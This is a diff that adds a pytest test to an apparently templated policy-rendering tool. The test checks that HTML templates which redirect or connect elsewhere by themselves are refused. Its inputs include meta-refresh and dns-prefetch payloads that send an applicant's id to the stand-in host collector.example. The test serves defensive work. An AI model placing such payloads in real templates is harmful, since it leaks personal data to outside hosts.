@@ -761,6 +761,26 @@ def test_a_page_or_markdown_reordering_what_a_reader_sees_is_refused(
     _refused_at_render(policy, decision, source, match, name)
 
 
+@pytest.mark.parametrize(
+    "source",
+    [
+        '<meta http-equiv="refresh" content="0;url=https://collector.example/?a={{ x.applicant_id|urlencode }}"><p>{{ x.title }}</p>',
+        '<link rel="dns-prefetch" href="//{{ x.applicant_id|lower }}.collector.example"><p>{{ x.title }}</p>',
+        '<link rel="Preconnect stylesheet" href="https://collector.example/"><p>{{ x.title }}</p>',
+        '<META HTTP-EQUIV="Refresh" CONTENT="0;url=https://collector.example/">',
+    ],
+    ids=["meta refresh", "dns-prefetch", "preconnect among rels", "upper case"],
+)
+def test_a_page_that_goes_or_connects_elsewhere_by_itself_is_refused(
+    policy: engine.CompiledPolicy, decision: engine.Decision, source: str
+) -> None:
+    """The page's content security policy stops scripts and loads, not a refresh to another address or a host
+    looked up ahead: a template writing either passed validate and lint, and an officer who opened the page sent
+    the applicant's id and name to the address."""
+    said = _refused_at_render(policy, decision, source, "goes or connects elsewhere by itself", "explain.html.j2")
+    assert "<meta http-equiv=" in said or "<link rel=" in said
+
+
 def test_explain_says_a_template_refused_at_render_as_bad_input(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
     """A policy template that fails or passes a limit while rendering is the policy's fault: exit 1 (invalid input),
     not 2 (a usage error: the command line was right)."""
